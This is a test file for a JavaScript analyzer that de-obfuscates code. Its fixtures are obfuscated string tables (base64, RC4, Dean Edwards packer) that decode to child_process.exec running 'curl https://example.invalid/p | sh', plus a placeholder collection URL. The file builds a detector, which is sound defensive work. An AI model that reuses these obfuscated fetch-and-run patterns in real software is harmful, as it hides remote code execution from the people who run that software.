import { describe, expect, it } from 'vitest';
import { analyzeJavaScript } from '../../../src/detectors/javascript/analyze.js';

const facts = (src: string) => analyzeJavaScript('t.js', src);
/** javascript-obfuscator's base64 alphabet: standard base64 (of the UTF-8 bytes) with the cases swapped, no padding. */
const obfB64 = (s: string): string =>
  Buffer.from(s, 'utf8')
    .toString('base64')
    .replace(/=+$/, '')
    .replace(/[a-zA-Z]/g, (c) => (c === c.toLowerCase() ? c.toUpperCase() : c.toLowerCase()));

/** RC4 as javascript-obfuscator's rc4 string encoding runs it (char codes XOR a 256-entry keystream). */
const rc4 = (key: string, text: string): string => {
  const st = Array.from({ length: 256 }, (_, i) => i);
  let j = 0;
  for (let i = 0; i < 256; i++) {
    j = (j + (st[i] as number) + key.charCodeAt(i % key.length)) % 256;
    [st[i], st[j]] = [st[j] as number, st[i] as number];
  }
  let out = '';
  for (let y = 0, i = 0, k = 0; y < text.length; y++) {
    i = (i + 1) % 256;
    k = (k + (st[i] as number)) % 256;
    [st[i], st[k]] = [st[k] as number, st[i] as number];
    out += String.fromCharCode(text.charCodeAt(y) ^ (st[((st[i] as number) + (st[k] as number)) % 256] as number));
  }
  return out;
};
/** An rc4-encoded table entry: RC4 with the key, the result's UTF-8 bytes in the obfuscator's base64. */
const obfRc4 = (s: string, key: string): string => obfB64(rc4(key, s));

/** Older javascript-obfuscator output: table, rotation IIFE, index decoder. */
const OLD_STYLE = `
var _0x4f2a = ['exec', 'child_process', 'curl\\x20https://example.invalid/p', 'log', 'hello'];
(function (_0x1b2c3d, _0x4e5f6a) {
  var _0x2a3b4c = function (_0x5c6d7e) {
    while (--_0x5c6d7e) { _0x1b2c3d['push'](_0x1b2c3d['shift']()); }
  };
  _0x2a3b4c(++_0x4e5f6a);
}(_0x4f2a, 0x2));
var _0x3c4d = function (_0x1a2b3c, _0x4d5e6f) {
  _0x1a2b3c = _0x1a2b3c - 0x0;
  var _0x7a8b9c = _0x4f2a[_0x1a2b3c];
  return _0x7a8b9c;
};
require(_0x3c4d('0x4'))[_0x3c4d('0x3')](_0x3c4d('0x0'));
`;

/** Newer output: the table inside a function, checksum-driven rotation (not emulated), base64 entries. */
const NEW_STYLE = `
function _0x1d2e() {
  const _0x5b2c = ['${obfB64('child_process')}', '${obfB64('https://example.invalid/collect')}', 'exec', 'env', '9812lKqPwd', 'push'];
  _0x1d2e = function () { return _0x5b2c; };
  return _0x1d2e();
}
function _0x3a1f(_0x4b, _0x2c) {
  const _0x1e = _0x1d2e();
  return _0x3a1f = function (_0x5f, _0x6a) { _0x5f = _0x5f - 0x1a4; let _0x7b = _0x1e[_0x5f]; return _0x7b; }, _0x3a1f(_0x4b, _0x2c);
}
(function (_0x9c, _0x8d) {
  const _0x7e = _0x3a1f, _0x6f = _0x9c();
  while (!![]) {
    try { const _0x5a = parseInt(_0x7e(0x1a8)) / 0x1; if (_0x5a === _0x8d) break; else _0x6f['push'](_0x6f['shift']()); }
    catch (_0x4e) { _0x6f['push'](_0x6f['shift']()); }
  }
}(_0x1d2e, 0x2c3b1));
`;

describe('analyzeJavaScript: obfuscated code', () => {
  it('resolves calls through an old-style rotated string table and its decoder', () => {
    const f = facts(OLD_STYLE);
    const call = f.calls.find((c) => c.callee === 'child_process.exec');
    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p');
    expect(f.imports).toEqual([{ module: 'child_process', line: 14, scope: '<module>' }]);
    expect(f.metrics.largestStringArray).toBe(5);
    expect(f.metrics.obfuscatedIdentifiers).toBe(9);
  });

  it('folds through a base64 table decoder, and not through rc4 or other transforms', () => {
    const table = `var _0x4f2a = ['Y2hpbGRfcHJvY2Vzcw==', '${obfB64('exec')}', 'c', 'd', 'e'];`;
    // javascript-obfuscator's base64 string encoding: an if that installs the decoder and a cache.
    const b64 = `${table}
var _0x3c4d = function (_0x1a, _0x9f) { _0x1a = _0x1a - 0x0; var _0x7a = _0x4f2a[_0x1a]; if (_0x3c4d.init === undefined) { _0x3c4d.dec = function (s) { return atob(s); }; _0x3c4d.init = !![]; } _0x7a = _0x3c4d.dec(_0x7a); return _0x7a; };
require(_0x3c4d('0x0'))[_0x3c4d('0x1')]('id');`;
    const f = facts(b64);
    expect(f.imports).toEqual([{ module: 'child_process', line: 3, scope: '<module>' }]);
    expect(f.calls.map((c) => c.callee)).toContain('child_process.exec');
    // rc4: the second parameter is the key; the raw entry would be wrong, so nothing folds.
    const rc4 = `${table}
var _0x3c4d = function (_0x1a, _0x9f) { _0x1a = _0x1a - 0x0; var _0x7a = _0x4f2a[_0x1a]; if (_0x3c4d.init === undefined) { _0x3c4d.rc4 = function (s, k) { return atob(s) + k; }; } _0x7a = _0x3c4d.rc4(_0x7a, _0x9f); return _0x7a; };
require(_0x3c4d('0x0', 'k3y'));`;
    expect(facts(rc4).imports).toEqual([{ module: "_0x3c4d('0x0', 'k3y')", line: 3, scope: '<module>', dynamic: true }]);
    const reversed = `${table}
var _0x3c4d = function (_0x1a) { _0x1a = _0x1a - 0x0; var _0x7a = _0x4f2a[_0x1a]; if (_0x3c4d.init === undefined) { _0x7a = _0x7a.split('').reverse().join(''); } return _0x7a; };
require(_0x3c4d('0x0'));`;
    expect(facts(reversed).imports).toEqual([{ module: "_0x3c4d('0x0')", line: 3, scope: '<module>', dynamic: true }]);
  });

  it('folds through a declared rc4 table decoder whose table function comes last, with each call\'s key', () => {
    const src = `function _0xD(_0xi, _0xk) {
  _0xi = _0xi - 0x10;
  const _0xt = _0xT();
  let _0xs = _0xt[_0xi];
  if (_0xD.init === undefined) {
    var _0xr = function (str, key) { const st = []; let j = 0, x, out = ''; const alphabet = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
      for (let n = 0; n < 0x100; n++) st[n] = n;
      for (let n = 0; n < 0x100; n++) { j = (j + st[n] + key.charCodeAt(n % key.length)) % 0x100; x = st[n]; st[n] = st[j]; st[j] = x; }
      for (let y = 0, i = 0, k = 0; y < str.length; y++) { i = (i + 1) % 0x100; k = (k + st[i]) % 0x100; x = st[i]; st[i] = st[k]; st[k] = x; out += String.fromCharCode(str.charCodeAt(y) ^ st[(st[i] + st[k]) % 0x100]); }
      return out; };
    _0xD.r = _0xr; _0xD.init = !![];
  }
  return _0xD.r(_0xs, _0xk);
}
require(_0xD(0x10, 'k1'))[_0xD(0x11, '#q')]('id');
require(_0xD(0x10, 'zz'));
function _0xT() { const _0xa = ['${obfRc4('child_process', 'k1')}', '${obfRc4('exec', '#q')}', 'c', 'd', 'e']; _0xT = function () { return _0xa; }; return _0xT(); }`;
    const f = facts(src);
    expect(f.calls.map((c) => c.callee)).toContain('child_process.exec');
    // The wrong key gives noise, which is not taken for a module name.
    expect(f.imports.map((i) => i.module)).toEqual(['child_process', "_0xD(0x10, 'zz')"]);
  });

  it('folds through a hand-written table lookup: `return T[i]`, an arrow with an offset, and not through other bodies', () => {
    const table = `var _0xa1 = ['\\x63hild_process', 'exec', 'curl https://example.invalid/p|sh'];`;
    const plain = facts(`${table}\nvar _0xb2 = function (_0xc3) { return _0xa1[_0xc3]; };\nrequire(_0xb2(0))[_0xb2(1)](_0xb2(2));`);
    const call = plain.calls.find((c) => c.callee === 'child_process.exec');
    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p|sh');
    const arrow = facts(`${table}\nconst d = (i) => _0xa1[i - 0x10];\nrequire(d(0x10))[d(0x11)](d(0x12));`);
    expect(arrow.calls.find((c) => c.callee === 'child_process.exec')?.args[0]?.value).toBe('curl https://example.invalid/p|sh');
    const plus = facts(`${table}\nfunction d(i) { return _0xa1[i + 1]; }\nrequire(d(-1));`);
    expect(plus.imports.map((i) => i.module)).toEqual(['child_process']);
    // A second parameter in the index is not a plain lookup.
    const two = facts(`${table}\nconst d = (i, j) => _0xa1[i - j];\nrequire(d(0, 0));`);
    expect(two.imports.map((i) => i.module)).toEqual(['d(0, 0)']);
  });

  it("unpacks Dean Edwards' packer (base 62) for the eval it feeds, and leaves other IIFEs alone", () => {
    // Pack like the packer does: every word becomes its index in base 62 in a keyword list.
    const source = "require('child_process').exec('curl -s https://example.invalid/p | sh')";
    const words = [...new Set(source.match(/\b\w+\b/g) ?? [])];
    // Pad the list so that indexes past 35 use capital letters, as packed files of any size do.
    const keys = [...Array.from({ length: 40 }, (_, i) => `unused${i}`), ...words];
    const enc = (c: number): string => (c < 62 ? '' : enc(Math.floor(c / 62))) + ((c % 62) > 35 ? String.fromCharCode((c % 62) + 29) : (c % 62).toString(36));
    const packed = source.replace(/\b\w+\b/g, (w) => enc(keys.indexOf(w))).replace(/'/g, "\\'");
    const unpacker = "function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String.fromCharCode(c+29):c.toString(36))};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}";
    const f = facts(`eval(${unpacker}('${packed}',62,${keys.length},'${keys.join('|')}'.split('|'),0,{}))`);
    expect(f.decoded.map((d) => [d.steps, d.text])).toEqual([[['packer'], source]]);
    expect(f.decoded[0]?.facts?.calls.map((c) => c.callee)).toContain('child_process.exec');
    // Parameters not named p, a, c, k: an ordinary immediately invoked function, not unpacked.
    expect(facts(`eval(function(x,y,z,w){return x}('1',62,1,'a'.split('|')))`).decoded).toEqual([]);
  });

  it('records every entry of a string table and decodes its base64 entries', () => {
    const f = facts(NEW_STYLE);
    expect(f.metrics.largestStringArray).toBe(6);
    expect(f.metrics.obfuscatedIdentifiers).toBeGreaterThanOrEqual(15);
    const values = f.strings.map((s) => s.value);
    expect(values).toEqual(expect.arrayContaining(['env', 'exec', 'push', 'child_process', 'https://example.invalid/collect']));
    expect(f.decoded.map((d) => [d.steps, d.text])).toEqual([
      [['base64'], 'child_process'],
      [['base64'], 'https://example.invalid/collect'],
    ]);
  });

  it('turns a newer table until its checksum matches, then folds through its base64 decoder', () => {
    // Table function, self-replacing decoder with base64 strings, checksum-driven rotation: the table is stored
    // turned right by three, and only the right turn makes the checksum 1234 + 5678 / 2 = 4073.
    const src = `
function _0x1d2e() {
  const _0x5b2c = ['${obfB64('1234abcD')}', '${obfB64('5678xyZ')}', '${obfB64('curl https://example.invalid/p')}', '${obfB64('child_process')}', '${obfB64('exec')}', '${obfB64('https://example.invalid/collect')}', '${obfB64('env')}'];
  _0x1d2e = function () { return _0x5b2c; };
  return _0x1d2e();
}
function _0x3a1f(_0x4b, _0x2c) {
  const _0x1e = _0x1d2e();
  return _0x3a1f = function (_0x5f, _0x6a) {
    _0x5f = _0x5f - 0x1a4;
    let _0x7b = _0x1e[_0x5f];
    if (_0x3a1f.xYzAbc === undefined) {
      const _0x9a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
      _0x3a1f.dEc = function (_0x3c) { return _0x3c; };
      _0x3a1f.xYzAbc = !![];
    }
    _0x7b = _0x3a1f.dEc(_0x7b);
    return _0x7b;
  }, _0x3a1f(_0x4b, _0x2c);
}
(function (_0x9c, _0x8d) {
  const _0x7e = _0x3a1f, _0x6f = _0x9c();
  while (!![]) {
    try {
      const _0x5a = parseInt(_0x7e(0x1a8)) / 0x1 + parseInt(_0x7e(0x1a9)) / 0x2;
      if (_0x5a === _0x8d) break;
      else _0x6f['push'](_0x6f['shift']());
    } catch (_0x4e) { _0x6f['push'](_0x6f['shift']()); }
  }
}(_0x1d2e, 0xfe9));
const _0x2f = _0x3a1f;
require(_0x2f(0x1a4))[_0x2f(0x1a5)](_0x2f(0x1aa));
`;
    const f = facts(src);
    expect(f.imports).toEqual([{ module: 'child_process', line: 32, scope: '<module>' }]);
    const call = f.calls.find((c) => c.callee === 'child_process.exec');
    expect(call?.args[0]?.value).toBe('curl https://example.invalid/p');
    // A target no turn reaches: nothing folds through the table, rather than to a wrong entry.
    const wrong = facts(src.replace('0xfe9', '0x1'));
    expect(wrong.imports).toEqual([{ module: '_0x2f(0x1a4)', line: 32, scope: '<module>', dynamic: true }]);
    expect(wrong.strings.map((x) => x.value)).toContain('1234abcD');
  });

  it('counts machine-generated identifiers, not minified ones', () => {
    expect(facts(`var lIlIlI = 1, IlIlII = 2, O0O0OO = 3, a = 4, b = 5, ll = 6;`).metrics.obfuscatedIdentifiers).toBe(3);
    expect(facts(`var διάβασε = 1, ㅤ = 2, π = 3;`).metrics.obfuscatedIdentifiers).toBe(2);
    expect(facts(`function n(e,t){var r=e.a,o=t.b;return function(i){return r(i)+o}}`).metrics.obfuscatedIdentifiers).toBe(0);
  });

  it('measures string arrays without treating ordinary ones as tables', () => {
    const f = facts(`const tags = ['div', 'span', 'a', 'p', 'ul', 'li'];`);
    expect(f.metrics.largestStringArray).toBe(6);
    expect(f.strings.map((s) => s.value)).toEqual(['span']);
    expect(f.decoded).toEqual([]);
  });
});
